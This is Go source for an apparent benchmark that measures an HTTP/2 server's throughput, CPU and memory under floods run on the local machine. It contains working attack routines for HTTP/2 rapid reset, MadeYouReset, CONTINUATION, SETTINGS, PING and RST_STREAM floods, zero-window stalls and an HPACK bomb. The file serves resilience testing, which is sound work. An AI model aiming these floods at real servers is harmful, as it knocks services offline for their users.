package main

import (
	"bytes"
	"cmp"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"os"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"text/tabwriter"
	"time"

	"moonbridge/benchmarks/internal/machine"
	"moonbridge/benchmarks/internal/program"
	"moonbridge/benchmarks/internal/servers"
	"moonbridge/benchmarks/internal/stats"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attack is a flood. step writes what an attacker repeats; i counts from 0 on each connection.
type attack struct {
	name     string
	settings []http2.Setting
	step     func(c *client, i uint32)

	// For each round.
	toSink, toAlone, perSecond, cpu, sinkCPU, share, memory, connects []float64
	failed                                                            int
}

// client is an attacker's connection.
type client struct {
	*http2.Framer
	request, bomb []byte // field sections

	conn  net.Conn
	out   bytes.Buffer  // frames that are not sent yet
	ended chan struct{} // closed when the server has ended the connection
}

func (c *client) get(id uint32, block []byte) {
	c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
}

func attacks() []*attack {
	zero := []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}
	return []*attack{
		{name: "rapid reset", step: func(c *client, i uint32) {
			c.get(2*i+1, c.request)
			c.WriteRSTStream(2*i+1, http2.ErrCodeCancel)
		}},
		{name: "MadeYouReset", step: func(c *client, i uint32) {
			c.get(2*i+1, c.request)
			c.WriteWindowUpdate(2*i+1, 0)
		}},
		{name: "CONTINUATION", step: func(c *client, i uint32) {
			if i == 0 {
				c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.request})
			}
			c.WriteContinuation(1, false, []byte{0x00, 1, 'a', 1, 'b'})
		}},
		{name: "SETTINGS", step: func(c *client, i uint32) { c.WriteSettings() }},
		{name: "PING", step: func(c *client, i uint32) { c.WritePing(false, [8]byte{}) }},
		{name: "RST_STREAM", step: func(c *client, i uint32) {
			if i == 0 {
				c.get(1, c.request)
			}
			c.WriteRSTStream(1, http2.ErrCodeCancel)
		}},
		{name: "zero windows", settings: zero, step: func(c *client, i uint32) {
			if i < 100 {
				c.get(2*i+1, c.request)
			}
		}},
		{name: "HPACK bomb", step: func(c *client, i uint32) {
			if i == 0 {
				c.get(1, c.request)
				return
			}
			c.get(2*i+1, c.bomb)
		}},
	}
}

// attackersAddr is where attackers come from. Honest clients have another address, so that a limit for each (-mbserve-options connection_limit.rate=20)
// tells them apart.
var attackersAddr = &net.TCPAddr{IP: net.IPv4(127, 0, 0, 2)}

// newClient begins a connection that discards what it receives, up to its end.
func newClient(address string, a *attack) (*client, error) {
	from := &net.Dialer{LocalAddr: attackersAddr}
	conn, err := tls.DialWithDialer(from, "tcp", address, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	if err != nil {
		return nil, err
	}
	var fields bytes.Buffer
	c := &client{conn: conn, ended: make(chan struct{})}
	c.Framer = http2.NewFramer(&c.out, nil)
	c.AllowIllegalWrites = true
	e := hpack.NewEncoder(&fields)
	for _, f := range []string{":method GET", ":scheme https", ":path /100k", ":authority h", "x " + strings.Repeat("y", 3900)} {
		name, value, _ := strings.Cut(f, " ")
		e.WriteField(hpack.HeaderField{Name: name, Value: value})
		if name == ":authority" && a.name != "HPACK bomb" {
			break
		}
	}
	c.request = bytes.Clone(fields.Bytes())
	const latest = 0x80 | 62
	c.bomb = append([]byte{0x82, 0x87, 0x80 | 64, 0x80 | 63}, bytes.Repeat([]byte{latest}, 200)...)
	c.out.WriteString(http2.ClientPreface)
	c.WriteSettings(a.settings...)
	go func() {
		defer close(c.ended)
		io.Copy(io.Discard, conn)
	}()
	return c, nil
}

// burst is how often an attacker sends what it has.
const burst = 10 * time.Millisecond

// target is what is attacked. A server cuts attackers off. A sink does not, so they end their connections themselves, as often as the server did:
// then the handshakes cost the machine the same.
type target struct {
	address string
	life    time.Duration // of a connection, from before its handshake; 0: until the server ends it
}

// run attacks until ctx ends, and connects again when it is cut off.
func (a *attack) run(ctx context.Context, t target, frames int) (connects int) {
	for ctx.Err() == nil {
		over := make(<-chan time.Time)
		if t.life > 0 {
			over = time.After(t.life)
		}
		c, err := newClient(t.address, a)
		if err != nil {
			program.Sleep(ctx, burst)
			continue
		}
		connects++
		a.flood(ctx, c, over, frames)
		c.conn.Close()
		<-c.ended
	}
	return connects
}

// flood attacks until ctx, the connection or its life ends.
func (a *attack) flood(ctx context.Context, c *client, over <-chan time.Time, frames int) {
	next := time.NewTicker(burst)
	defer next.Stop()
	for i := uint32(0); ; {
		for range max(1, frames*int(burst)/int(time.Second)) {
			a.step(c, i)
			i++
		}
		if _, err := c.conn.Write(c.out.Bytes()); err != nil {
			return
		}
		c.out.Reset()
		select {
		case <-next.C:
		case <-over:
			return
		case <-c.ended:
			return
		case <-ctx.Done():
			return
		}
	}
}

// runAttacks measures honest clients beside each attack.
func runAttacks(ctx context.Context, o options) error {
	s, err := start(&o.settings, "mbserve")
	if err != nil {
		return err
	}
	defer s.Stop()
	sink, err := serveSink(o.settings.Certificate())
	if err != nil {
		return err
	}
	defer sink.Close()
	all := slices.DeleteFunc(attacks(), func(a *attack) bool { return o.attack != "" && a.name != o.attack })
	if len(all) == 0 {
		return fmt.Errorf("no attack has the name %q", o.attack)
	}
	for round := range o.rounds {
		fmt.Fprintln(os.Stderr, "round", round+1)
		for _, a := range all {
			if err := a.measure(ctx, o, s, sink.Addr().String()); err != nil {
				return fmt.Errorf("%s: %w", a.name, err)
			}
		}
	}
	name := o.name
	if name != "-" {
		name += "-attacks"
	}
	return program.Report(o.settings.Benchmarks, name, func(to io.Writer) { reportAttacks(to, o, all) })
}

// measure measures honest clients alone, then while the attackers attack the server, the sink, and the server again.
func (a *attack) measure(ctx context.Context, o options, s *servers.Server, sink string) error {
	alone, err := honest(ctx, o, s)
	if err != nil {
		return err
	}
	share := a.unopposed(ctx, o, s)
	first, connects, err := a.beside(ctx, o, s, target{address: s.Address})
	if err != nil {
		return err
	}
	besideSink, _, err := a.beside(ctx, o, s, target{sink, a.life(o, connects)})
	if err != nil {
		return err
	}
	second, more, err := a.beside(ctx, o, s, target{address: s.Address})
	if err != nil {
		return err
	}
	perSecond := (first.perSecond + second.perSecond) / 2
	a.toSink = append(a.toSink, perSecond/besideSink.perSecond)
	a.toAlone = append(a.toAlone, perSecond/alone.perSecond)
	a.perSecond = append(a.perSecond, perSecond)
	a.cpu = append(a.cpu, (first.cpu+second.cpu)/2)
	a.sinkCPU = append(a.sinkCPU, besideSink.cpu)
	a.share = append(a.share, share)
	a.memory = append(a.memory, max(first.memory, second.memory))
	a.connects = append(a.connects, float64(connects+more)/2)
	a.failed += alone.failed + first.failed + besideSink.failed + second.failed
	return nil
}

// unopposed measures the server while it has no clients but the attackers: how much of one core it uses.
func (a *attack) unopposed(ctx context.Context, o options, s *servers.Server) float64 {
	stop := a.begin(ctx, o, target{address: s.Address})
	defer stop()
	before, _ := s.Tree.CPU()
	start := time.Now()
	program.Sleep(ctx, o.duration)
	after, _ := s.Tree.CPU()
	return (after - before).Seconds() / time.Since(start).Seconds()
}

// life is how long a connection of the attackers has lasted when they have connected so often; 0: to the end.
func (a *attack) life(o options, connects int64) time.Duration {
	if connects <= int64(o.attackers) {
		return 0
	}
	return (attackAhead + o.duration) * time.Duration(o.attackers) / time.Duration(connects)
}

// figures are what was seen of honest clients.
type figures struct {
	result
	cpu    float64 // of the server, in µs for one of their requests
	memory float64 // of the server, in MiB
}

// honest measures honest clients of s.
func honest(ctx context.Context, o options, s *servers.Server) (f figures, err error) {
	const streams = 10
	before, _ := s.Tree.CPU()
	if f.result, err = load(ctx, url(s, ""), o.conns, streams, o.duration); err != nil {
		return f, err
	}
	after, _ := s.Tree.CPU()
	f.cpu = (after - before).Seconds() * 1e6 / float64(f.succeeded)
	memory, err := s.Tree.Memory()
	f.memory = float64(memory.PSS) / (1 << 20)
	return f, err
}

// attackAhead is how long the attackers attack before honest clients are measured beside them.
const attackAhead = time.Second

// beside measures honest clients of s while the attackers attack a target. It returns how often these connected.
func (a *attack) beside(ctx context.Context, o options, s *servers.Server, t target) (f figures, connects int64, err error) {
	stop := a.begin(ctx, o, t)
	defer stop()
	program.Sleep(ctx, attackAhead)
	f, err = honest(ctx, o, s)
	return f, stop(), err
}

// begin lets the attackers begin. stop ends them, and says how often they have connected.
func (a *attack) begin(ctx context.Context, o options, t target) (stop func() (connects int64)) {
	ctx, cancel := context.WithCancel(ctx)
	var running sync.WaitGroup
	var count atomic.Int64
	for range o.attackers {
		running.Go(func() { count.Add(int64(a.run(ctx, t, o.frames))) })
	}
	return func() int64 {
		cancel()
		running.Wait()
		return count.Load()
	}
}

// serveSink runs a server that takes connections with TLS and throws everything away. So what attackers of it cost is their own.
func serveSink(cert, key string) (net.Listener, error) {
	pair, err := tls.LoadX509KeyPair(cert, key)
	if err != nil {
		return nil, err
	}
	ln, err := tls.Listen("tcp4", "127.0.0.1:0", &tls.Config{Certificates: []tls.Certificate{pair}, NextProtos: []string{"h2"}})
	if err != nil {
		return nil, err
	}
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer conn.Close()
				io.Copy(io.Discard, conn)
			}()
		}
	}()
	return ln, nil
}

func reportAttacks(to io.Writer, o options, all []*attack) {
	for _, f := range machine.Facts(o.settings.Benchmarks) {
		fmt.Fprintf(to, "%s: %s\n", f.Name, f.Value)
	}
	fmt.Fprintf(to, "\nHonest clients (h2load, %d connections with 10 streams) beside %d attackers with %d frames a second each; %d rounds of %v; options of mbserve: %s\n\n",
		o.conns, o.attackers, o.frames, o.rounds, o.duration, cmp.Or(strings.Join(o.settings.MbserveOptions, " "), "none"))
	w := tabwriter.NewWriter(to, 0, 0, 2, ' ', tabwriter.AlignRight)
	fmt.Fprintln(w, "beside\trequests/s\tto sink\tto alone\tserver CPU µs/request\tsink\tattackers only\tfailed\tmemory MiB (PSS)\tconnections of attackers\t")
	for _, a := range all {
		fmt.Fprintf(w, "%s\t%s\t%s\t%s\t%.1f\t%.1f\t%.1f %%\t%d\t%.0f\t%.0f\t\n", a.name, stats.Summarise(a.perSecond).Spread("%.0f"),
			stats.MeanError(a.toSink), stats.MeanError(a.toAlone), stats.Quantile(a.cpu, 0.5), stats.Quantile(a.sinkCPU, 0.5), 100*stats.Quantile(a.share, 0.5), a.failed,
			stats.Quantile(a.memory, 1), stats.Quantile(a.connects, 0.5))
	}
	w.Flush()
	fmt.Fprintln(to, "\nto sink: requests/s beside attackers of the server, as a ratio to those beside the same attackers of a sink, which reads\neverything and is part of this program, measured in between. So the CPU time of the attackers, who share the machine, does not count.\nto alone: to those without attackers. Mean of the rounds ± its standard error (smallest–largest). server CPU: all that the server\nused, for an honest request; sink: the same while the attackers attack the sink; attackers only: of one core, without honest clients.\nAttackers that are cut off connect again at once, and leave the sink as often.")
}
